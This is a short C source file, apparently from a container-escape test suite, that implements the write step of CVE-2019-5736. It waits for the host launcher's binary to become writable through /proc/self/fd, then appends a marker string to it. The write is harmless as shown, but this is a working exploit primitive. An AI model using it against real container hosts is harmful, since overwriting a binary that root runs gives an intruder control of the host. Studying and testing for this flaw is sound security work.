/*
 * /proc/self/exe is the file that this process was started from, and in a box whose command is called so that is the launcher's: a file of the
 * host, which root runs again. It cannot be written to while it runs; so it is opened, and waited for (CVE-2019-5736).
 * A library of the image brought us here: the loader has loaded it into the launcher, and it has made us of it.
 */
#include "attack.h"

/* argv: a descriptor of that file. */
void self_exe(char **argv)
{
	char path[64];
	snprintf(path, sizeof path, "%s/self/fd/%d", proc(), atoi(argv[0]));
	int fd = -1;
	for (int n = 0; n < 100 && fd < 0; n++, usleep(20000))
		fd = open(path, O_WRONLY | O_APPEND);
	must(fd, "open the launcher's own file for writing");
	must(write(fd, "out\n", 4), "write to it");
}
